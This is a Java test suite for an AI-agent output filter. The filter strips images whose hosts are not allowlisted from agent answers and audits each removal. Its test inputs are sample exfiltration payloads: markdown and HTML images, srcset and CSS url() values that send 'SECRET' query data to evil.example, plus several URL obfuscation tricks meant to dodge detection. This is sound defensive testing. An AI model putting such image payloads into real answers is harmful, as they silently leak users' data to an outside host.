package dev.warden.dataflow;

import static dev.warden.dataflow.Fixtures.context;
import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.core.Checkpoint;
import dev.warden.core.CheckpointRequest;
import dev.warden.core.Confidentiality;
import dev.warden.core.Governor;
import dev.warden.core.Labels;
import dev.warden.core.Outcome;
import dev.warden.core.Verdict;
import dev.warden.dataflow.DataFlowConfig.AnswerImagePolicy.Mode;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Auto-loading images in a blocking answer (decision 0051): removed unless their host is allowed, audited. */
class AnswerImageEgressTest {
    final List<Verdict> observed = new ArrayList<>();

    Governor governor(Mode mode, String... allowed) {
        return Governor.builder().observer((req, ctx, verdict, record) -> observed.add(verdict))
                .plane(new DataFlowPlane(DataFlowConfig.builder().answerImages(mode, allowed).build())).build();
    }

    static CheckpointRequest output(String text) {
        return new CheckpointRequest(Checkpoint.AGENT_OUTPUT, 3, null, null, null, text, null, "user", null);
    }

    String answer(Governor g, String text) {
        Verdict v = g.check(output(text), context("r"));
        assertThat(v.outcome()).isIn(Outcome.ALLOW, Outcome.TRANSFORM);
        return v.effectiveRequest().content();
    }

    @Test
    void markdown_image_to_an_evil_host_is_replaced_by_a_marker_and_audited() {
        Verdict v = governor(Mode.REMOVE).check(output("Done. ![x](https://evil.example/c?d=SECRET) Bye"),
                context("r"));
        assertThat(v.outcome()).isEqualTo(Outcome.TRANSFORM);
        assertThat(v.effectiveRequest().content()).isEqualTo("Done. [image removed: evil.example] Bye");
        assertThat(observed).singleElement().satisfies(o -> {
            assertThat(o.outcome()).isEqualTo(Outcome.TRANSFORM);
            assertThat(o.decisions()).anySatisfy(d -> assertThat(d.decision().basis().ruleIds())
                    .contains(DataFlowCodes.RULE_ANSWER_IMAGES));
            assertThat(o.reason()).doesNotContain("SECRET").doesNotContain("evil.example");
        });
    }

    @Test
    void image_to_an_allowed_host_is_kept() {
        Governor g = governor(Mode.REMOVE, "cdn.acme.example", "*.img.example");
        String text = "![logo](https://cdn.acme.example/logo.png) ![b](https://a.img.example/b.png \"t\")";
        assertThat(answer(g, text)).isEqualTo(text);
        assertThat(answer(g, "![x](https://cdn.acme.example.evil.example/x)"))
                .isEqualTo("[image removed: cdn.acme.example.evil.example]");
    }

    @Test
    void html_img_in_any_case_and_quoting_is_removed() {
        Governor g = governor(Mode.REMOVE);
        assertThat(answer(g, "a <img src=\"https://evil.example/?d=S\"> b")).isEqualTo("a [image removed: evil.example] b");
        assertThat(answer(g, "a <IMG alt=x SRC='https://evil.example/?d=S'/> b"))
                .isEqualTo("a [image removed: evil.example] b");
        assertThat(answer(g, "<img\nsrc=https://evil.example/?d=S>")).isEqualTo("[image removed: evil.example]");
        assertThat(answer(g, "<img srcset=\"/a.png 1x, //evil.example/b.png 2x\">"))
                .isEqualTo("[image removed: evil.example]");
        assertThat(answer(g, "<div style=\"background:url('https://evil.example/x')\">hi</div>"))
                .isEqualTo("[image removed: evil.example]hi</div>");
    }

    @Test
    void reference_style_image_definition_is_removed() {
        String out = answer(governor(Mode.REMOVE), "See ![chart][c]\n\n[c]: https://evil.example/?d=S \"t\"\n");
        assertThat(out).doesNotContain("evil.example/").contains("![chart][c]", "[image removed: evil.example]");
    }

    @Test
    void obfuscated_urls_still_name_their_host() {
        Governor g = governor(Mode.REMOVE);
        for (String url : List.of("//evil.example/x", "HTTPS://EVIL.example/x", "https:\\\\evil.example/x",
                "https&#58;//evil.example/x", "ht\ttps://evil.example/x", "https://user@evil.example:8443/x",
                "https://evil%2Eexample/x", " https://evil.example./x", "<https://evil.example/a b>")) {
            assertThat(answer(g, "![x](" + url + ")")).as(url).isEqualTo("[image removed: evil.example]");
        }
        assertThat(answer(g, "<img src=\"https&colon;//evil.example/x\">")).isEqualTo("[image removed: evil.example]");
        assertThat(answer(g, "![x](ftp://evil.example/x)")).isEqualTo("[image removed: ftp:]");
    }

    @Test
    void relative_and_data_urls_are_kept() {
        Governor g = governor(Mode.REMOVE);
        for (String text : List.of("![x](/static/a.png)", "![x](a.png)", "![x](data:image/png;base64,iVBORw0KGgo=)",
                "<img src=\"/static/a.png\">", "<img src=data:image/gif;base64,R0lGOD>")) {
            assertThat(answer(g, text)).as(text).isEqualTo(text);
        }
    }

    @Test
    void plain_links_need_a_click_and_are_unchanged() {
        Governor g = governor(Mode.REMOVE);
        String text = "Read [the report](https://evil.example/?d=S), <https://evil.example/x> or "
                + "<a href=\"https://evil.example/y\">here</a>.";
        assertThat(answer(g, text)).isEqualTo(text);
        assertThat(observed).allSatisfy(v -> assertThat(v.outcome()).isEqualTo(Outcome.ALLOW));
    }

    @Test
    void an_image_inside_a_link_is_removed_the_link_kept() {
        assertThat(answer(governor(Mode.REMOVE), "[![b](https://evil.example/i.png)](https://ok.example/)"))
                .isEqualTo("[[image removed: evil.example]](https://ok.example/)");
    }

    @Test
    void mode_off_leaves_answers_as_written() {
        String text = "![x](https://evil.example/c?d=SECRET)";
        assertThat(answer(governor(Mode.OFF), text)).isEqualTo(text);
    }

    @Test
    void removal_combines_with_egress_redaction() {
        Governor g = Governor.builder().plane(new DataFlowPlane(DataFlowConfig.builder()
                .sinkClearance(DataFlowConfig.USER_CHANNEL, Labels.of(Confidentiality.PUBLIC))
                .egressMode(DataFlowConfig.EgressMode.REDACT).build())).build();
        Verdict v = g.check(output("mail ann@example.com ![x](https://evil.example/?d=1)"), context("r"));
        assertThat(v.outcome()).isEqualTo(Outcome.TRANSFORM);
        assertThat(v.effectiveRequest().content()).isEqualTo("mail [REDACTED:EMAIL] [image removed: evil.example]");
    }

    @Test
    void a_malformed_allowed_host_fails_at_build() {
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> DataFlowConfig.builder()
                .answerImages(Mode.REMOVE, "https://cdn.acme.example/").build())
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("bare host");
    }
}
